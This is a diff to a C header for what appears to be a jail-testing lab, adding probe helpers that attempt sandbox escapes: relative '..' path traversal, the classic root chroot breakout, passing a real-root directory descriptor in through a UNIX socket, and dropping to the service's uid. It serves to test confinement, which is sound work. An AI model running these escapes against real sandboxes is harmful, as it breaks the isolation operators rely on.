@@ -15,19 +15,24 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <stdarg.h>
+#include <stddef.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <grp.h>
+#include <sys/prctl.h>
+#include <sys/socket.h>
 #include <sys/syscall.h>
+#include <sys/un.h>
 #include <unistd.h>
 
-static const char *probe_name = "probe";
-static const char *probe_nonce = "";
+static __attribute__((unused)) const char *probe_name = "probe";
+static __attribute__((unused)) const char *probe_nonce = "";
 
 /* The host looks for this line to know the probe really started inside the jail. */
 #define PROBE_STARTED "jaillab-probe: started"
 
-static void probe_say(const char *fmt, ...) {
+static __attribute__((unused)) void probe_say(const char *fmt, ...) {
   va_list ap;
   va_start(ap, fmt);
   printf("[%s] ", probe_name);
@@ -38,7 +43,7 @@ static void probe_say(const char *fmt, ...) {
 }
 
 /* Prints the start marker and where the probe finds itself. */
-static void probe_start(int argc, char **argv, const char *name) {
+static __attribute__((unused)) void probe_start(int argc, char **argv, const char *name) {
   probe_name = name;
   if (argc > 1) probe_nonce = argv[1];
   setvbuf(stdout, NULL, _IOLBF, 0);
@@ -52,7 +57,7 @@ static void probe_start(int argc, char **argv, const char *name) {
 }
 
 /* Reports a failed attempt: the call and its errno, by name. */
-static void probe_blocked(const char *call, int err) {
+static __attribute__((unused)) void probe_blocked(const char *call, int err) {
   const char *name = strerrorname_np(err);
   probe_say("blocked: %s: %s (%s)", call, strerror(err), name ? name : "?");
 }
@@ -61,7 +66,7 @@ static void probe_blocked(const char *call, int err) {
  * Tries to read a file that may be the outside secret. On success prints
  * "escape: <how> -> <content>" and returns 1; otherwise reports why, returns 0.
  */
-static int probe_try_read(const char *how, const char *path) {
+static __attribute__((unused)) int probe_try_read(const char *how, const char *path) {
   int fd = open(path, O_RDONLY);
   if (fd < 0) {
     char call[600];
@@ -86,12 +91,117 @@ static int probe_try_read(const char *how, const char *path) {
 }
 
 /* A write escape: leave the nonce where only an escaped process could. */
-static int probe_write_proof(const char *path) {
+static __attribute__((unused)) int probe_write_proof(const char *path) {
   int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
   if (fd < 0) return 0;
   int ok = write(fd, probe_nonce, strlen(probe_nonce)) == (ssize_t)strlen(probe_nonce);
   close(fd);
   return ok;
+}
+
+/* Relative paths that reach /outside/secret from a working directory outside the process's root. */
+static __attribute__((unused)) const char *const probe_relative_paths[] = {
+    "outside/secret",
+    "../outside/secret",
+    "../../outside/secret",
+    "../../../../../../../../outside/secret",
+};
+
+/* From the current working directory, tries every relative path; on success also leaves the nonce. */
+static __attribute__((unused)) int probe_try_relative(const char *how) {
+  for (size_t i = 0; i < sizeof probe_relative_paths / sizeof probe_relative_paths[0]; i++) {
+    char label[256];
+    snprintf(label, sizeof label, "%s, then %s", how, probe_relative_paths[i]);
+    if (probe_try_read(label, probe_relative_paths[i])) {
+      probe_write_proof("../../../../../../../../outside/proof");
+      return 1;
+    }
+  }
+  return 0;
+}
+
+/*
+ * The classic escape for root in a chroot (TLPI §18.12): chroot() into a
+ * subdirectory leaves the working directory above the new root, and ".." from
+ * there climbs to the real root, since ".." only stops at the process's root.
+ */
+static __attribute__((unused)) int probe_chroot_out(const char *how) {
+  if (chroot("/bin") != 0) {
+    probe_blocked("chroot(\"/bin\")", errno);
+    return 0;
+  }
+  for (int i = 0; i < 64; i++)
+    if (chdir("..") != 0) break;
+  if (chroot(".") != 0) {
+    probe_blocked("chroot(\".\") after climbing", errno);
+    return 0;
+  }
+  if (probe_try_read(how, "/outside/secret")) {
+    probe_write_proof("/outside/proof");
+    return 1;
+  }
+  return 0;
+}
+
+/* An accomplice (a helper started outside the jail before the check) says it is ready by closing fd 3. */
+static __attribute__((unused)) void accomplice_ready(void) {
+  close(3);
+}
+
+/* Receives one descriptor passed with SCM_RIGHTS over a connected UNIX socket; -1 if none came. */
+static __attribute__((unused)) int probe_receive_fd(int sock) {
+  char byte;
+  struct iovec iov = {.iov_base = &byte, .iov_len = 1};
+  union {
+    struct cmsghdr h;
+    char buf[CMSG_SPACE(sizeof(int))];
+  } ctl;
+  struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl.buf, .msg_controllen = sizeof ctl.buf};
+  if (recvmsg(sock, &msg, 0) <= 0) return -1;
+  struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
+  if (!c || c->cmsg_type != SCM_RIGHTS) return -1;
+  int fd;
+  memcpy(&fd, CMSG_DATA(c), sizeof fd);
+  return fd;
+}
+
+/* Accomplice side: hands every client a descriptor of the real root directory, forever. */
+static __attribute__((unused)) void accomplice_serve_root_fd(int listener) {
+  for (;;) {
+    int c = accept(listener, NULL, NULL);
+    if (c < 0) continue;
+    int root = open("/", O_RDONLY | O_DIRECTORY);
+    char byte = 'r';
+    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
+    union {
+      struct cmsghdr h;
+      char buf[CMSG_SPACE(sizeof(int))];
+    } ctl;
+    memset(&ctl, 0, sizeof ctl);
+    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl.buf, .msg_controllen = sizeof ctl.buf};
+    struct cmsghdr *h = CMSG_FIRSTHDR(&msg);
+    h->cmsg_level = SOL_SOCKET;
+    h->cmsg_type = SCM_RIGHTS;
+    h->cmsg_len = CMSG_LEN(sizeof(int));
+    memcpy(CMSG_DATA(h), &root, sizeof root);
+    sendmsg(c, &msg, 0);
+    close(root);
+    close(c);
+  }
+}
+
+/* Accomplice side: become the jailed service's user (uid/gid 1000) outside the jail, still inspectable. */
+static __attribute__((unused)) void accomplice_become_service_user(void) {
+  setgroups(0, NULL);
+  if (setresgid(1000, 1000, 1000) != 0 || setresuid(1000, 1000, 1000) != 0) _exit(1);
+  /* Changing uid makes a process non-dumpable, which hides it from ptrace and /proc/PID/root; a normal
+   * service started as uid 1000 would be dumpable, so undo that. */
+  prctl(PR_SET_DUMPABLE, 1);
+}
+
+/* Accomplice side: wait to be killed when the check ends. */
+static __attribute__((unused)) void accomplice_wait(void) {
+  for (;;) pause();
 }
 
 #endif
